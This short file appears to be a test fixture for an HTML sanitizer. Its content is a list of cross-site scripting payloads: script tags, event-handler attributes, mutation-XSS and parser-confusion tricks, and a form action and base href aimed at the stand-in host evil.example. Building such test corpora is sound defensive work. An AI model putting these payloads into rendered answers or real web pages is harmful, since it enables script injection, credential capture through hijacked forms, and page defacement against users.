"""Writes scripts, event handlers, frames, forms and style sheets into its answers and its prose."""
# %% answer=explain_the_slide
<script>alert(1)</script> <img src=x onerror=alert(1)> <svg onload=alert(1)><script>1</script></svg>
<iframe srcdoc="<script>alert(1)</script>"></iframe> <form action=https://evil.example><input></form>
<style>body{display:none}</style> <base href=https://evil.example> <object data=x></object> <embed src=x>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript> <!--><img src=x onerror=alert(1)>-->
# %% markdown
<details open ontoggle=alert(1)> <video><source onerror=alert(1)></video> <a href="x" onclick="alert(1)">x</a>
<![CDATA[><img src=x onerror=alert(1)>]]> <?xml <img src=x onerror=alert(1)>?> <x onclick=alert(1)>x</x>
